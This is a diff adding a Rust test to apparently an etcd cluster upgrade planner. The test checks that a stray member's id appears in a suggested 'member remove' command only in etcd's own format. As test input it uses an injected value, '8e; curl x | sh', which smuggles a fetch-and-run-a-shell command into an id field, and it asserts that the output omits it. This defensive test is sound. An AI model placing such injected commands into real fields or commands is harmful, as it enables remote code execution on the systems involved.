@@ -203,3 +203,15 @@ fn the_whole_plan_with_members_of_its_own() {
     settings.set_omit_expression(true);
     settings.bind(|| insta::assert_snapshot!("own-etcd", of(OLD, "3.5.26").steps().render()));
 }
+
+#[test]
+fn the_id_of_a_member_that_nobody_has_asked_for_is_part_of_a_command_only_as_etcd_writes_it() {
+    let with = |id: &str| {
+        let mut case = of(MINOR, "3.6.5");
+        case.running.etcd.push(EtcdMember { id: id.to_owned(), ..member("stray") });
+        case.refused()
+    };
+    assert!(with("8e9e05c52164694d").contains("`member remove 8e9e05c52164694d`"));
+    let refused = with("8e; curl x | sh");
+    assert!(refused.contains("etcd has a member stray") && !refused.contains("curl"), "{refused}");
+}
